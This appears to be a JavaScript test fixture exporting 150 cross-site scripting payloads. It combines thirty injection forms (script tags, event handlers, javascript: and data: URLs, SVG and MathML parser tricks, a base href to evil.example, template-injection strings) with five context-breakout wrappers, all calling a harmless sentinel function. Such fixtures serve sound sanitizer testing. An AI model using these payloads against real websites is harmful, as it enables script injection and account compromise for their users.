// Texts that would run as script if anybody took them for markup, an address or a template: thirty ways, each in five surroundings.
const RAN = 'window.ran(1)';
const WAYS = [
	`<script>${RAN}</script>`,
	`<img src=x onerror=${RAN}>`,
	`<svg onload=${RAN}>`,
	`<svg><script>${RAN}</script></svg>`,
	`<svg><animate onbegin=${RAN} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${RAN}"><text y=20>x</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.ran(1)</script>"></iframe></foreignObject></svg>`,
	`<svg><style>@import url(data:text/css,*{color:red})</style></svg>`,
	`<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>`,
	`<iframe src="javascript:parent.ran(1)"></iframe>`,
	`<details open ontoggle=${RAN}>`,
	`<body onload=${RAN}>`,
	`<input autofocus onfocus=${RAN}>`,
	`<select autofocus onfocus=${RAN}>`,
	`<video><source onerror=${RAN}></video>`,
	`<audio src=x onerror=${RAN}>`,
	`<object data="javascript:${RAN}">`,
	`<embed src="javascript:${RAN}">`,
	`<math><mtext></mtext><mglyph><style><img src=x onerror=${RAN}></style></mglyph></math>`,
	`<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
	`<template><script>${RAN}</script></template>`,
	`<a href="javascript:${RAN}" autofocus>x</a>`,
	`<form action="javascript:${RAN}"><button>x</button></form>`,
	`<meta http-equiv="refresh" content="0;url=javascript:${RAN}">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="data:text/css,*{display:none}">`,
	`<div style="background:url(javascript:${RAN})">`,
	`javascript:${RAN}`,
	`data:text/html,<script>parent.ran(1)</script>`,
	`\${${RAN}}{{${RAN}}}<%= ${RAN} %>$1$&`,
];
/** @type {((way: string) => string)[]} */
const SURROUNDINGS = [
	(way) => way,
	(way) => `">${way}`,
	(way) => `'></title></text></svg></option></select></textarea>${way}`,
	(way) => `--></style></script>${way}<!--`,
	(way) => `=HYPERLINK("x")\u202e\u0000${way}\n\t${way}`,
];

export const PAYLOADS = SURROUNDINGS.flatMap((around) => WAYS.map(around));
